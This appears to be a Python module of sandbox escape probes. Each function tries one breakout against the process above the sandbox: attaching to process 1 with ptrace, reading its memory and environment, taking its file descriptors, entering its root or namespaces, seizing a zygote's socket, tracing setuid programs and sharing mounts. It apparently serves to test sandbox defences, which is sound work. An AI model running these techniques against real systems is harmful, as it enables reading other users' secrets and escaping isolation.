"""What stands above a sandbox's program: the first process of its namespace, and what workers were forked from."""

import contextlib
import ctypes
import os
import signal
import socket
from pathlib import Path

from .attempt import Target, Void, attempt, call, checked, libc, read

_PTRACE_TRACEME, _PTRACE_SEIZE = 0, 0x4206
_ROOT = ("Landlock", "capabilities")
_OTHERS = ("kernel",)
"""It cannot be dumped, so that its own user cannot look into it either."""
_MACHINES_OWN = "whether root may look into the machine's own first process differs between machines"
_NONE_OUTSIDE = "what a zygote leaves behind is found in its workers alone"


@attempt(*_ROOT, ordinary=_OTHERS, upon="machine", uncontrolled=_MACHINES_OWN)
def seize_the_first_process(_: Target) -> object:
    """Attaches to process 1, which is a copy of the platform's process that made the sandbox."""
    checked(libc.ptrace(_PTRACE_SEIZE, 1, None, None))
    return "attached"


@attempt(*_ROOT, ordinary=_OTHERS, upon="machine", uncontrolled=_MACHINES_OWN)
def read_the_memory_of_the_first_process(_: Target) -> object:
    """Reads where the memory of process 1 lies, and then the memory, in which the platform's may be left."""
    first = int(read("/proc/1/maps").split("-")[0], 16)
    with open("/proc/1/mem", "rb", buffering=0) as memory:
        memory.seek(first)
        return f"{len(memory.read(100))} bytes"


@attempt(*_ROOT, ordinary=_OTHERS, upon="machine", uncontrolled=_MACHINES_OWN)
def read_the_variables_of_the_first_process(_: Target) -> object:
    """Reads the variables that process 1 was started with."""
    return f"{len(read('/proc/1/environ'))} characters"


@attempt(*_ROOT, ordinary=_OTHERS, upon="machine", uncontrolled=_MACHINES_OWN)
def take_a_descriptor_of_the_first_process(_: Target) -> object:
    """Takes over what process 1 has open (pidfd_getfd)."""
    first = os.pidfd_open(1)
    for number in range(64):
        with contextlib.suppress(OSError):
            return f"descriptor {call('pidfd_getfd', first, number, 0)}"
    return ""


@attempt(*_ROOT, ordinary=_OTHERS, uncontrolled=_MACHINES_OWN)
def enter_the_root_of_the_first_process(target: Target) -> object:
    """Reads a neighbour's file through the root folder of process 1."""
    return read(f"/proc/1/root{target.file}")


@attempt(*_ROOT, ordinary=_OTHERS, uncontrolled=_MACHINES_OWN)
def enter_the_namespaces_of_the_first_process(target: Target) -> object:
    """Joins the mount namespace of process 1, and reads a neighbour's file there."""
    checked(libc.setns(os.open("/proc/1/ns/mnt", os.O_RDONLY), 0x00020000))
    return read(target.file)


@attempt("kernel", upon="machine", uncontrolled=_NONE_OUTSIDE)
def give_orders_to_the_zygote(_: Target) -> object:
    """Looks among what it inherited for the socket by which workers are ordered."""
    for each in _inherited("socket:"):
        with contextlib.suppress(OSError), socket.socket(fileno=os.dup(each)) as found:
            if found.type == socket.SOCK_SEQPACKET:
                return f"descriptor {each}: {found!r}"
    return ""


@attempt("capabilities", "seccomp", uncontrolled=_NONE_OUTSIDE)
def enter_a_namespace_that_was_left_open(target: Target) -> object:
    """Joins each namespace among what it inherited, as of other workers of the same zygote."""
    found = [*_inherited("mnt:["), *_inherited("pid:["), *_inherited("user:[")]
    if not found:
        raise Void("nothing of the kind was inherited")
    for each in found:
        with contextlib.suppress(OSError):
            checked(libc.setns(each, 0))
            return read(target.file)
    return ""


def _inherited(kind: str) -> list[int]:
    """Open descriptors whose name in /proc begins so."""
    found = []
    for entry in Path("/proc/self/fd").iterdir():
        with contextlib.suppress(OSError):
            if os.readlink(entry).startswith(kind):
                found.append(int(entry.name))
    return found


@attempt("kernel", upon="machine", uncontrolled="root has all rights already")
def trace_a_program_that_gets_more_rights(_: Target) -> object:
    """Starts a set-user-id program of the system's as its debugger, and looks whether it got more rights."""
    programs = (Path("/usr/bin") / name for name in ("su", "passwd", "mount", "chsh"))
    program = next((each for each in programs if each.exists()), None)
    if program is None:
        raise Void("no such program")
    pid = os.fork()
    if pid == 0:
        libc.ptrace(_PTRACE_TRACEME, 0, None, None)
        with contextlib.suppress(OSError):
            os.execv(program, [str(program)])
        os._exit(9)
    os.waitpid(pid, 0)
    try:
        rights = [_rights(number) for number in ("self", str(pid))]
    finally:
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
    return "" if rights[1] in ("", rights[0]) else f"{rights[0]} became {rights[1]}"


def _rights(process: str) -> str:
    """Effective user and capabilities; empty for a process that has ended."""
    try:
        lines = Path(f"/proc/{process}/status").read_text().splitlines()
    except OSError:
        return ""
    shown = dict(line.split(":\t", 1) for line in lines if ":\t" in line)
    return "" if "CapEff" not in shown or shown["State"][0] == "Z" else f"{shown['Uid'].split()[1]} {shown['CapEff']}"


@attempt("capabilities", "Landlock", upon="machine")
def have_mounts_passed_on(_: Target) -> object:
    """Makes all mounts shared, so that what it mounts appears in copies of them as well (propagation)."""
    checked(libc.mount(None, b"/", None, ctypes.c_ulong(1 << 20 | 1 << 14), None))
    checked(libc.mount(None, b"/", None, ctypes.c_ulong(1 << 18 | 1 << 14), None))
    return "shared"


@attempt("Landlock", "seccomp", upon="machine")
def have_mounts_passed_on_from_a_user_namespace(_: Target) -> object:
    """Becomes root of a user namespace, and makes all mounts shared there."""
    checked(libc.unshare(0x10000000 | 0x00020000))
    checked(libc.mount(None, b"/", None, ctypes.c_ulong(1 << 20 | 1 << 14), None))
    return "shared"
